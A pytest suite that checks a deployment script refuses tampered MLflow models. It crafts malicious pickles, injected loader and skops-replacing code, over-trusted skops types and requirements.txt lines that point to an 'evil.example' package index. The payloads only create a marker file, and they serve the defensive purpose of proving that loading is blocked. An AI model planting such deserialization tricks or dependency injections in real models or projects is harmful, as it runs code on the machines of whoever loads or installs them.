"""Hostile and broken models: none of their code runs, and each is refused in one line.

Each is a copy of a model of the script's own with one thing changed. The copy with nothing
changed is loaded, so it is the change that is refused.
"""

import contextlib
import json
import pickle
import shutil
from functools import partial
from pathlib import Path

import cloudpickle
import mlflow
import numpy as np
import pytest
import skops.io
import yaml
from conftest import assert_one_line, run, store
from sklearn.dummy import DummyClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

import production_deployment as script

SKLEARN, PYFUNC = "sklearn", "python_function"


class Trap:
    """Loads as a pickle that leaves a file."""

    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return (open, (str(self.mark), "w"))


class Shop:
    """A store with a model that is fine, and where changed copies of it are made."""

    def __init__(self, folder):
        self.folder = folder
        self.train, _ = script.load_data(None, "diagnosis", None, 0.2)
        script.open_store(script.EXPERIMENT)
        model = script.add_preprocessing(LogisticRegression(max_iter=1000))
        model.fit(self.train.X, self.train.y)
        with mlflow.start_run() as trained:
            uri = script.log_model(model, self.train.X, self.train.rule).model_uri
        self.run = trained.info
        self.files = Path(mlflow.artifacts.download_artifacts(uri))

    def copy(self, change):
        """Put a changed copy into the store; return its ID and the file that it may leave."""
        client = mlflow.MlflowClient()
        made = client.create_logged_model(
            self.run.experiment_id, name="model", source_run_id=self.run.run_id
        )
        path = Path(made.artifact_location)
        shutil.copytree(self.files, path)
        spec = yaml.safe_load((path / "MLmodel").read_text())
        spec["model_id"] = made.model_id
        mark = self.folder / f"ran-{made.model_id}"
        change(path, spec, mark)
        (path / "MLmodel").write_text(yaml.safe_dump(spec))
        client.finalize_logged_model(made.model_id, "READY")
        return made.model_id, mark

    def load(self, model_id):
        return script.load_model(f"models:/{model_id}", self.train)


@pytest.fixture(scope="module")
def shop(tmp_path_factory, new_store):
    folder = tmp_path_factory.mktemp("shop")
    shutil.copy(new_store, folder)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)  # the store remembers where it was made
        store(folder)
        yield Shop(folder)


# What is done to a copy: it gets the folder, what MLmodel says, and the file to leave.


def nothing(path, spec, mark):
    pass


def a_pickle(path, spec, mark, name="model.pkl", format_="pickle", dumps=pickle.dumps):
    (path / "model.skops").unlink()
    (path / name).write_bytes(dumps(Trap(mark)))
    spec["flavors"][SKLEARN] |= {"pickled_model": name, "serialization_format": format_}
    spec["flavors"][PYFUNC]["model_path"] = name


def a_cloudpickle(path, spec, mark):
    a_pickle(path, spec, mark, "model.pkl", "cloudpickle", cloudpickle.dumps)


def a_pickle_named_as_skops(path, spec, mark):
    a_pickle(path, spec, mark, "model.skops")


def no_format_which_is_a_pickle(path, spec, mark):
    a_pickle(path, spec, mark, "model.skops")
    del spec["flavors"][SKLEARN]["serialization_format"]


def code_that_replaces_skops(path, spec, mark, flavor=SKLEARN):
    spec["flavors"][flavor]["code"] = "code"
    (path / "code" / "skops").mkdir(parents=True)
    (path / "code" / "skops" / "__init__.py").write_text(f"open({str(mark)!r}, 'w')\n")


def code_in_the_other_flavor(path, spec, mark):
    code_that_replaces_skops(path, spec, mark, PYFUNC)


def a_loader_of_its_own(path, spec, mark):
    spec["flavors"][PYFUNC] |= {"code": "code", "loader_module": "own_loader"}
    (path / "code").mkdir()
    (path / "code" / "own_loader.py").write_text(f"open({str(mark)!r}, 'w')\n")


def another_loader_of_mlflow(path, spec, mark):
    (path / "model.skops").write_bytes(pickle.dumps(Trap(mark)))
    loader = {"loader_module": "mlflow.pyfunc.model", "python_model": "model.skops"}
    spec["flavors"][PYFUNC] |= loader | {"cloudpickle_version": cloudpickle.__version__}


def data_elsewhere(path, spec, mark):
    """The folder `sub` is what is loaded: a whole model again, and a pickle."""
    shutil.copytree(path, path / "sub")
    inner = json.loads(json.dumps(spec))
    a_pickle(path / "sub", inner, mark)
    (path / "sub" / "MLmodel").write_text(yaml.safe_dump(inner))
    spec["flavors"][PYFUNC]["data"] = "sub"


def a_file_elsewhere(path, spec, mark):
    mark.with_suffix(".pkl").write_bytes(pickle.dumps(Trap(mark)))
    spec["flavors"][SKLEARN]["serialization_format"] = "pickle"
    spec["flavors"][PYFUNC]["model_path"] = str(mark.with_suffix(".pkl"))


def types_that_it_trusts_itself(path, spec, mark):
    """Skops alone refuses the type, but MLflow trusts what the model itself names."""
    model = make_pipeline(FunctionTransformer(partial(np.savetxt, str(mark))), DummyClassifier())
    model.steps[-1][1].fit([[0]], ["benign"])
    skops.io.dump(model, path / "model.skops")
    types = skops.io.get_untrusted_types(file=path / "model.skops")
    spec["flavors"][SKLEARN]["skops_trusted_types"] += types


RUN_CODE = [
    a_pickle,
    a_cloudpickle,
    a_pickle_named_as_skops,
    no_format_which_is_a_pickle,
    code_that_replaces_skops,
    code_in_the_other_flavor,
    a_loader_of_its_own,
    another_loader_of_mlflow,
    data_elsewhere,
    a_file_elsewhere,
    types_that_it_trusts_itself,
]


def every_type_trusted(path, spec, mark):
    spec["flavors"][SKLEARN]["skops_trusted_types"] = True


def a_third_flavor(path, spec, mark):
    spec["flavors"]["pytorch"] = {"model_data": "data"}


def a_flavor_less(path, spec, mark):
    del spec["flavors"][SKLEARN]


def no_signature(path, spec, mark):
    del spec["signature"]


def columns_in_another_order(path, spec, mark):
    columns = json.loads(spec["signature"]["inputs"])
    spec["signature"]["inputs"] = json.dumps(columns[::-1])


def probabilities_instead_of_classes(path, spec, mark):
    spec["flavors"][PYFUNC]["predict_fn"] = "predict_proba"


def a_file_cut_short(path, spec, mark):
    content = (path / "model.skops").read_bytes()
    (path / "model.skops").write_bytes(content[: len(content) // 2])


def no_rule_of_the_hold_out(path, spec, mark):
    del spec["metadata"]


def another_package(path, spec, mark, line="evil==1.0"):
    with (path / "requirements.txt").open("a") as file:
        file.write(f"\n{line}\n")


def another_index(path, spec, mark):
    another_package(path, spec, mark, "--index-url https://evil.example/simple")


def a_package_from_an_address(path, spec, mark):
    another_package(path, spec, mark, "numpy @ https://evil.example/numpy.tar.gz")


OTHERS = [
    every_type_trusted,
    a_third_flavor,
    a_flavor_less,
    no_signature,
    columns_in_another_order,
    probabilities_instead_of_classes,
    a_file_cut_short,
    no_rule_of_the_hold_out,
    another_package,
    another_index,
    a_package_from_an_address,
]


def test_a_copy_with_nothing_changed_is_loaded(shop):
    model_id, _ = shop.copy(nothing)
    assert set(shop.load(model_id).predict(shop.train.X)) == {"benign", "malignant"}


@pytest.mark.parametrize("change", [*RUN_CODE, *OTHERS])
def test_a_changed_model_is_refused_and_none_of_its_code_runs(change, shop):
    model_id, mark = shop.copy(change)
    with pytest.raises(script.UserError, match="cannot be used: "):
        shop.load(model_id)
    assert not mark.exists()


def test_mlflow_alone_would_run_their_code(shop):
    """So that the test above can fail. What replaces skops runs only if that is not imported."""
    ran = []
    for change in RUN_CODE:
        model_id, mark = shop.copy(change)
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("MLFLOW_ALLOW_PICKLE_DESERIALIZATION", "true")
            with contextlib.suppress(Exception):
                mlflow.pyfunc.load_model(f"models:/{model_id}").predict(shop.train.X.head())
        if mark.exists():
            ran.append(change)
    assert len(ran) >= len(RUN_CODE) - 3


def test_the_script_refuses_it_in_one_line_and_registers_nothing(shop):
    model_id, mark = shop.copy(code_that_replaces_skops)
    process = run("production_deployment.py", "--model-uri", f"models:/{model_id}", cwd=shop.folder)
    assert_one_line(process, model_id, "could run code")
    assert not mark.exists()
    assert mlflow.search_registered_models() == []
